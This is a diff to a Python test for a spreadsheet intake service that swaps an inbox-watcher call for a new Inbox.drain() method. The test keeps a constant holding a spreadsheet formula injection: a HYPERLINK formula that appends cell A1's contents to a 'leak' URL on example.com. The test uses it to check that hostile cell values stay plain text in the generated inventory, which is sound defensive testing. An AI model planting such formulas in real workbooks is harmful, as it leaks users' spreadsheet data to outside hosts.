@@ -12,10 +12,10 @@ from openpyxl import load_workbook
 
 from service.archive.inventory import BagDocument, BagFile
 from service.archive.inventory import inventory_xlsx as bag_inventory
+from service.inbox import Inbox
 from service.intake.demo import write_demo_workbook
 from service.intake.normalise import header_key
 from service.outbox import OutboxEntry, inventory_xlsx
-from service.watcher import InboxWatcher
 
 HOSTILE = '=HYPERLINK("http://example.com/?leak="&A1,"МБОУ Идринская СОШ")'
 
@@ -77,7 +77,7 @@ def test_a_workbook_value_stays_text_in_the_outbox_inventory(settings, tmp_path:
     cell.value = HOSTILE
     cell.data_type = "s"  # typed as text in Excel (a leading apostrophe)
     book.save(settings.inbox / "школа.xlsx")
-    assert InboxWatcher(settings).work(burst=True) == 1
+    assert Inbox(settings).drain() == 1
     (folder,) = [p for p in settings.outbox.iterdir() if p.is_dir()]
     data = (folder / "Опись.xlsx").read_bytes()
     cells = _cells(data)
